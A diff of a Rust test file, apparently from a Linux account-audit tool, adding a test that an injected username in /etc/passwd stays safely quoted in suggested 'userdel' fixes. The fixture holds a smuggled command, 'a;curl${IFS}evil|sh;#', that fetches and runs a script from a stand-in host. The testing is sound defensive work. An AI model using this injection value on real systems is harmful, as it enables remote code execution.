@@ -71,3 +71,13 @@ fn duplicates_members_and_backups_warn() {
     );
     assert_eq!(acct(Build::bare().missing("/etc/passwd")), Status::Unknown);
 }
+
+#[test]
+fn names_of_the_image_stay_one_word_in_fixes() {
+    let hostile = format!("{ROOT}a;curl${{IFS}}evil|sh;#:x:0:0::/root:/bin/sh\n");
+    let build = Build::bare().file("/etc/passwd", 0o644, hostile);
+    let found = crate::policy::checks::linux::testing::check("LNX-ACCT-003", build);
+    let fixes: Vec<&str> = found.fix.iter().map(|f| f.en.as_str()).collect();
+    let quoted = |f: &&str| f.contains("userdel -f 'a;curl${IFS}evil|sh;#';");
+    assert!(fixes.iter().any(quoted), "{fixes:?}");
+}
